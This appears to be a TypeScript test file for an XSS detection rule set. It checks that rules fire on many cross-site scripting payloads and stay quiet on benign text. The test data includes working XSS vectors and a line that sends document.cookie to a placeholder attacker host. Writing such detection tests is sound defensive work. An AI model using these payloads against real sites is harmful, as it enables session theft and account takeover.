import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules } from './xss.ts';
import { scanHtml, scanJsBreakout, schemeAt, isScriptUrl } from './xss-scan.ts';
import { applyChain } from '../transforms.ts';
import type { PartRule } from '../types.ts';

/** Rule ids of the paranoia-1 XSS rules that fire on a (parser-decoded) value, run as the engine does. */
function fired(value: string, paranoia = 1): string[] {
  const out: string[] = [];
  for (const r of rules as readonly PartRule[]) {
    if (r.paranoia > paranoia) continue;
    if (r.transforms.some((c) => r.match(applyChain(value, c), { loc: { kind: 'query', name: 'q' }, value }, undefined as never) !== null)) out.push(r.id);
  }
  return out;
}

test('executable markup is detected', () => {
  const attacks = [
    '<script>alert(1)</script>', '<ScRiPt src=//x.example/a.js>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>',
    '<body onload=alert(1)>', '<iframe src="javascript:alert(1)">', '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">', '<object data="data:text/html;base64,PHNjcmlwdD4=">', '<embed src=//x.example/x.swf>',
    '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go', '<div style="width:expression(alert(1))">', '<x onxxx=alert(1)>',
    '<details open ontoggle=alert(1)>', '<svg><animate attributeName=href values=javascript:alert(1) />',
    '&lt;img src=x onerror=alert(1)&gt;', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '<img src=x onerror=alert(1)',
    '<iframe srcdoc="<script>alert(1)</script>">', '"><img src=x onerror=prompt(1)>', '<style>@import "//evil.example/x.css";</style>',
    '%3Cscript%3Ealert(1)%3C/script%3E', '<svg>', '</script><script>alert(1)</script>',
  ];
  for (const a of attacks) assert.ok(fired(a).length > 0, `missed: ${a}`);
});

test('script URLs, attribute injection and JS-context breakouts are detected', () => {
  const attacks = [
    'javascript:alert(document.domain)', '  JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', 'data:text/html,<b>x', 'vbscript:msgbox(1)',
    '" onmouseover="alert(1)', "' autofocus onfocus=alert(1) x='", '";alert(1)//', "'-alert(1)-'", '\\";alert(1);//',
    "'}alert(1);{'", '"+confirm`1`+"', '${alert(1)}', '`${eval(atob("YWxlcnQoMSk="))}`', "{{constructor.constructor('alert(1)')()}}",
    "';top['al'+'ert'](1)//", 'x";document.location="//evil.example/?"+document.cookie;//', "alert(1)", 'onmouseover',
    "&#x3C;", '\\u003c',
  ];
  for (const a of attacks) assert.ok(fired(a).length > 0, `missed: ${a}`);
});

test('DTD handler declarations, namespaced SVG, SVG-only elements, string-aware CSS, upper-case handlers', () => {
  for (const a of ['<!ATTLIST a onclick CDATA "go()">', ' onfocus CDATA "f()"', '<svg:g><svg:circle r="9"/></svg:g>', '<feImage href="//x.example/i.svg">', '<foreignObject><p>x</p></foreignObject>', '<b style=\'color:"/*";x:expr/**/ession(go())\'>', '" ONMOUSEOVER=alert(1) x="']) {
    assert.ok(fired(a).length > 0, `missed: ${a}`);
  }
});

test('benign text and markup do not trigger at paranoia 1', () => {
  const benign = [
    '<p>Message</p>', '<your x509 certificate>', '<b>bold</b> and <i>italic</i>', '<a href="https://example.com/docs">docs</a>',
    '`<div>` is a block element', 'Use `alert()` sparingly in code reviews', '${org.name}: your verification code is ${code}',
    'a < b and c > d', '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>body{width:600px}</style></head><body><table><tr><td>x</td></tr></table></body></html>',
    "O'Brien said \"hello\" to everyone", 'learn javascript: the good parts', 'See https://example.com/a?b=c&d=e#frag',
    'Price: 5 < 10', '**bold** _markdown_ [link](https://example.com)', 'if (a) { b(); }', 'online=true', 'one="two"',
    '<div class="note" onboarding>', 'The event onclick fires when…', "It's \"quoted\" — fine", '<o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings>',
    '<!--[if (gte mso 9)|(IE)]><xml><o:x/></xml><![endif]-->', 'event.target.?[type eq "UserGroup"].size()>0', '<', '&amp;',
  ];
  for (const b of benign) assert.deepEqual(fired(b), [], `false positive: ${b}`);
});

test('paranoia 2 adds risky elements and bare sink calls', () => {
  assert.deepEqual(fired('<form method=post>', 1), []);
  assert.ok(fired('<form method=post>', 2).includes('941320'));
  assert.ok(fired('x = eval(y)', 2).includes('941390'));
});

test('scheme reading tolerates controls and entities, bounded', () => {
  assert.equal(isScriptUrl(schemeAt('\u0001 j\ta\nv\rascript:x', 0)), 'javascript:');
  assert.equal(isScriptUrl(schemeAt('feed:javascript:alert(1)', 0)), 'javascript:');
  assert.equal(isScriptUrl(schemeAt('https://x', 0)), null);
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = ['<'.repeat(65536), '<a '.repeat(21845), '<a b="'.repeat(10922), "'".repeat(65536), '${'.repeat(32768), '{{'.repeat(32768), 'on'.repeat(32768), 'on='.repeat(21845), '"on'.repeat(21845), '&#'.repeat(32768), 'javascript:'.repeat(5957), '<svg '.repeat(13107), '";'.repeat(32768), '<style>'.repeat(9362)];
  for (const s of inputs) {
    const t0 = performance.now();
    scanHtml(s);
    scanJsBreakout(s);
    fired(s, 4);
    const ms = performance.now() - t0;
    assert.ok(ms < 2000, `${JSON.stringify(s.slice(0, 8))}: ${ms} ms`);
  }
});

test('generalises to vectors written for this test (mXSS, entity-split schemes, SMIL, data: SVG)', () => {
  const more = ["<svg><set attributeName=onload to=alert(1)>", "<a href=javas&#99;ript:alert(1)>x", "<img src=1 oNeRrOr=alert(1)>", "<iframe/src=data:text/html,<svg onload=alert(1)>>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "javascript://%0aalert(1)", "\"><svg onload=alert(1)//", "'-confirm(1)-'", "</title><script>alert(1)</script>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<a href=\"&#106;avascript:alert(1)\">", "<object data=javascript:alert(1)>", "{{$on.constructor('alert(1)')()}}", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<details/open/ontoggle=confirm()>", "<marquee onstart=alert(1)>", "<body/onpageshow=alert(1)>", "\";alert(String.fromCharCode(88,83,83))//", "<a href='javascript&colon;alert(1)'>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>", "<img src=\"x\" onerror\t=\"alert(1)\">", "jav&#x0A;ascript:alert(1)", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "<script/src=//x.example>", "'`\"><\\x3Cscript>javascript:alert(1)</script>", "<sCrIpT>alert(1)</ScRiPt>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "${alert`1`}", "<style>*{background:url(javascript:alert(1))}</style>"];
  for (const a of more) assert.ok(fired(a).length > 0, `missed: ${a}`);
});

test('API and prose text with markup-like characters stays clean', () => {
  const text = ["Terms & Conditions (updated 2024); see section 3(a)", "Q: How do I select all? A: press Ctrl+A", "Error: can't connect to host 'db-1' (timeout)", "Run `SELECT * FROM users` to check", "if (x > 0 && y < 10) { return; }", "O'Reilly & Sons; 'Best-sellers' -- 2024 edition", "Please don't drop the table; it's fragile", "<3 you", "a<b>c", "x => y", "<br>", "<<EOF", "I'd like 2 or 3 more", "Order by phone: 555-0100", "group by region (EMEA)", "He said: 'union is strength'", "rock'n'roll; select your seat", "user@example.com; admin@example.com", "SELECT-2000 model", "(555) 010-0199", "100 - 20 = 80", "It's 50% off -- today only!", "x-www-form-urlencoded", "Price (USD): 1,299.00", "Dear 'Customer', your order #123 shipped", "on the 'Desktop' or 'Mobile' app", "Use onClick handler in React", "alert: disk almost full (95%)", "confirm your email", "The javascript: protocol is blocked", "See <https://example.com>", "<img src=\"https://cdn.example.com/a.png\" alt=\"logo\">", "<a href=\"mailto:a@example.com\">mail</a>", "<table style=\"width:100%\"><tr><td>x</td></tr></table>", "{{user.first_name}}, welcome!", "Hello ${name}", "`code` and ```block```", "1' 2\" tall", "Sort: name asc; limit 10", "where=city eq 'Paris' and active eq true", "filter=status in ('a','b')", "q=title:\"hello world\" OR tags:news", "--verbose --output=json", "#hashtag #another", "/* not a comment */ really", "100%; drop", "data:image/png;base64,iVBORw0KGgo=", "Hi! :-) ;-) <:o)", "a = b; c = d;", "Tom & Jerry's \"best\" episodes (1940-1958)"];
  for (const t of text) assert.deepEqual(fired(t), [], `false positive: ${t}`);
});
